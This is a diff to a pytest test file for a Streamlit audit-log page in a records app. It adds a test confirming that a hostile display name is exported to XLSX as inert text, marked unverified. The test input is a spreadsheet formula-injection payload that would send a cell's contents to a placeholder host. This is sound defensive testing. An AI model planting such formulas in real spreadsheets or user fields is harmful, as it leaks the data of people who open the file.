@@ -14,6 +14,7 @@ import pytest
 from streamlit.testing.v1 import AppTest
 
 from fupin import audit
+from fupin.scope import Viewer
 from tests.conftest import Download, app_test, downloads
 
 ROOT = Path(__file__).parent.parent
@@ -23,7 +24,7 @@ BYTE_CACHES = ("mc_xlsx", "mc_bulletin", "fd_export", "rf_export", "rf_export_ro
 @pytest.fixture()
 def site(tiny_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     monkeypatch.setenv("FUPIN_DB", str(tiny_db))
-    monkeypatch.setenv("FUPIN_AUDIT", str(tmp_path / "audit.sqlite"))
+    monkeypatch.setenv("FUPIN_STORE", str(tmp_path / "audit.sqlite"))
     monkeypatch.chdir(ROOT)
     return tiny_db
 
@@ -181,7 +182,9 @@ def test_unmasked_list_pages_are_audited_once_each(site: Path) -> None:
 
 def test_audit_log_download_is_audited_and_text_stays_text(site: Path, deferred: dict[str, Download]) -> None:
     typed = '=HYPERLINK("http://x/?"&E5,"查看")'
-    audit.sign_in_event(typed, "login_failed")  # an anonymous "username" lands in the log as typed
+    audit.sign_in_event(typed, "login_failed")  # an anonymous "username": logged as unverified, as typed
+    hostile = Viewer(name=typed, role="county", scope_level="county", scope_code="341221", username="x")
+    audit.record(hostile, "household_detail", household_id="1")  # a display name from the accounts file
     at = open_page("pages/audit_log.py")
     assert audited("export_audit_log") == []
     name, data = built(at, deferred, "下载审计记录（XLSX）")
@@ -191,7 +194,8 @@ def test_audit_log_download_is_audited_and_text_stays_text(site: Path, deferred:
     assert user.data_type == "s"  # a string, not a live formula
     assert not [c.coordinate for c in cells if c.data_type == "f"]
     rows = audited("export_audit_log")
-    assert len(rows) == 1 and rows[0]["row_count"] == 1 and rows[0]["viewer"] == "省扶贫办管理员（演示）"
+    assert len(rows) == 1 and rows[0]["row_count"] == 2 and rows[0]["viewer"] == "省扶贫办管理员（演示）"
+    assert any(c.value == f"（未验证）{typed}" for c in cells)
 
 
 def test_map_downloads_are_audited(site: Path, deferred: dict[str, Download]) -> None:
